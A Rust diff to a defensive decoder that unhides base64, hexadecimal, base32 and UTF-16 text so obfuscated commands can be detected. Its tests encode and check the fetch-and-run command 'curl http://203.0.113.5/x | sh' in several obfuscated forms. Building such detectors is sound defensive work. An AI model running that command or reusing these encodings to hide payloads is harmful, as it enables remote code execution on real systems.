@@ -1,14 +1,10 @@
 //! Text hidden in base64 or hexadecimal: PowerShell's encoded commands, payloads piped through a decoder, compressed scripts.
 
-mod deflate;
-
-use super::normalise::FIELD_LIMIT;
 use super::note::{Note, Notes};
+use crate::reading::{FIELD_LIMIT, decompressed, from_base32, is_base32};
 use base64::Engine as _;
 use base64::alphabet;
 use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
-use deflate::may_be_deflate;
-use miniz_oxide::inflate::{decompress_to_vec_with_limit, decompress_to_vec_zlib_with_limit};
 
 /// Padding and trailing bits are as sloppy in the wild as decoders allow.
 const LENIENT: GeneralPurpose = GeneralPurpose::new(
@@ -37,7 +33,9 @@ pub(super) fn decoded(text: &str, notes: &mut Notes) -> Option<String> {
 
 fn decode_into(text: &str, depth: usize, out: &mut String, notes: &mut Notes) {
     let mut hints = Hints::of(text);
-    for run in runs(text).take(MOST_RUNS) {
+    let may_be = |word: &str| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some();
+    let spaced = if may_be("xxd") || may_be("hex") { spaced_hexadecimal(text) } else { None };
+    for run in spaced.as_deref().into_iter().chain(runs(text)).take(MOST_RUNS) {
         let Some(found) = readable(run, &mut hints, notes) else { continue };
         let room = (FIELD_LIMIT - 1).saturating_sub(out.len());
         out.push_str(&found[..found.floor_char_boundary(room)]);
@@ -49,6 +47,22 @@ fn decode_into(text: &str, depth: usize, out: &mut String, notes: &mut Notes) {
             decode_into(&found, depth - 1, out, notes);
         }
     }
+}
+
+/// Bytes in hexadecimal with a space between each, as dumps are written, as one run.
+fn spaced_hexadecimal(text: &str) -> Option<String> {
+    let digits = |word: &str| word.len() == 2 && word.bytes().all(|byte| byte.is_ascii_hexdigit());
+    let mut run = String::new();
+    for word in text.split([' ', '\'', '"']) {
+        if digits(word) {
+            run.push_str(word);
+        } else if run.len() >= SHORTEST_RUN {
+            break;
+        } else {
+            run.clear();
+        }
+    }
+    (run.len() >= SHORTEST_RUN).then_some(run)
 }
 
 fn runs(text: &str) -> impl Iterator<Item = &str> {
@@ -85,11 +99,12 @@ struct Hints<'t> {
     text: &'t str,
     turned: Option<bool>,
     hexadecimal: Option<bool>,
+    base32: Option<bool>,
 }
 
 impl<'t> Hints<'t> {
     const fn of(text: &'t str) -> Self {
-        Self { text, turned: None, hexadecimal: None }
+        Self { text, turned: None, hexadecimal: None, base32: None }
     }
 
     /// Whether a run may be turned round.
@@ -102,6 +117,12 @@ impl<'t> Hints<'t> {
     fn hexadecimal(&mut self) -> bool {
         let text = self.text;
         *self.hexadecimal.get_or_insert_with(|| has_one(text, &["xxd", "hex", "unpack", "0x", "convert"]))
+    }
+
+    /// Whether a run may be base32.
+    fn base32(&mut self) -> bool {
+        let text = self.text;
+        *self.base32.get_or_insert_with(|| has_one(text, &["base32", "b32"]))
     }
 }
 
@@ -116,6 +137,12 @@ fn readable(run: &str, hints: &mut Hints<'_>, notes: &mut Notes) -> Option<Strin
         && run.bytes().all(|byte| byte.is_ascii_hexdigit())
         && hints.hexadecimal()
         && let Some(text) = hex::decode(run).ok().and_then(|bytes| text_of(&bytes))
+    {
+        return Some(text);
+    }
+    if is_base32(run)
+        && hints.base32()
+        && let Some(text) = text_of(&from_base32(run))
     {
         return Some(text);
     }
@@ -137,44 +164,18 @@ fn from_base64(run: &str, notes: &mut Notes) -> Option<String> {
     })
 }
 
-/// gzip, zlib or a bare deflate stream, whose beginnings are told apart by their first bytes.
-fn decompressed(bytes: &[u8]) -> Option<Vec<u8>> {
-    // What was cut off at the limit is still worth reading.
-    let partial = |result: Result<Vec<u8>, miniz_oxide::inflate::DecompressError>| match result {
-        Ok(bytes) => Some(bytes),
-        Err(error) => Some(error.output).filter(|bytes| !bytes.is_empty()),
-    };
-    match bytes {
-        [0x1f, 0x8b, 8, flags, ..] => {
-            let body = gzip_body(bytes, *flags)?;
-            partial(decompress_to_vec_with_limit(body, FIELD_LIMIT))
-        }
-        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => partial(decompress_to_vec_zlib_with_limit(bytes, FIELD_LIMIT)),
-        _ if bytes.len() >= 16 && may_be_deflate(bytes) => decompress_to_vec_with_limit(bytes, FIELD_LIMIT).ok(),
-        _ => None,
-    }
-}
-
-/// After the header with its optional parts.
-fn gzip_body(bytes: &[u8], flags: u8) -> Option<&[u8]> {
-    let mut rest = bytes.get(10..)?;
-    if flags & 0b100 != 0 {
-        let length = usize::from(u16::from_le_bytes([*rest.first()?, *rest.get(1)?]));
-        rest = rest.get(2 + length..)?;
-    }
-    for bit in [0b1000, 0b1_0000] {
-        if flags & bit != 0 {
-            let end = rest.iter().position(|byte| *byte == 0)?;
-            rest = &rest[end + 1..];
-        }
-    }
-    if flags & 0b10 != 0 { rest.get(2..) } else { Some(rest) }
-}
-
-/// `bytes` as UTF-16LE or as ASCII, if they are readable.
+/// `bytes` as UTF-16 of either order or as ASCII, if they are readable.
 fn text_of(bytes: &[u8]) -> Option<String> {
-    if bytes.len() >= 8 && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 10 >= bytes.len() / 2 * 8 {
-        let units = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
+    // Of Latin text every other byte is zero.
+    let zeros = |first: usize| bytes.iter().skip(first).step_by(2).filter(|byte| **byte == 0).count();
+    let wide = |first: usize| bytes.len() >= 8 && zeros(first) * 10 >= bytes.len() / 2 * 8;
+    let order: Option<fn([u8; 2]) -> u16> = match () {
+        () if wide(1) => Some(u16::from_le_bytes),
+        () if wide(0) => Some(u16::from_be_bytes),
+        () => None,
+    };
+    if let Some(order) = order {
+        let units = bytes.chunks_exact(2).map(|pair| order([pair[0], pair[1]]));
         let text: String = char::decode_utf16(units).map(|c| c.unwrap_or(' ')).collect();
         let readable = text.chars().filter(|c| matches!(c, ' '..='~' | '\t' | '\r' | '\n')).count();
         return (readable * 10 >= text.chars().count() * 8).then_some(text);
@@ -228,6 +229,18 @@ mod tests {
             read(&format!("echo {turned} | rev | base64 -d")).as_deref(),
             Some("curl http://203.0.113.5/x | sh ")
         );
+        let base32 = "MN2XE3BANB2HI4B2F4XTEMBTFYYC4MJRGMXDKL3YEB6CA43I";
+        assert_eq!(read(&format!("echo {base32} | base32 -d")).as_deref(), Some("curl http://203.0.113.5/x | sh "));
+        assert_eq!(read(base32), None);
+        let order = "curl http://203.0.113.5/x".encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>();
+        assert_eq!(read(&BASE64_STANDARD.encode(order)).as_deref(), Some("curl http://203.0.113.5/x "));
+        let spaced = hex::encode("curl http://203.0.113.5/x | sh")
+            .as_bytes()
+            .chunks(2)
+            .map(|pair| String::from_utf8_lossy(pair).into_owned())
+            .collect::<Vec<_>>()
+            .join(" ");
+        assert_eq!(read(&format!("echo {spaced} | xxd -r -p")).as_deref(), Some("curl http://203.0.113.5/x | sh "));
         let hexadecimal = hex::encode("curl http://203.0.113.5/x | sh");
         assert_eq!(
             read(&format!("echo {hexadecimal} | xxd -r -p")).as_deref(),
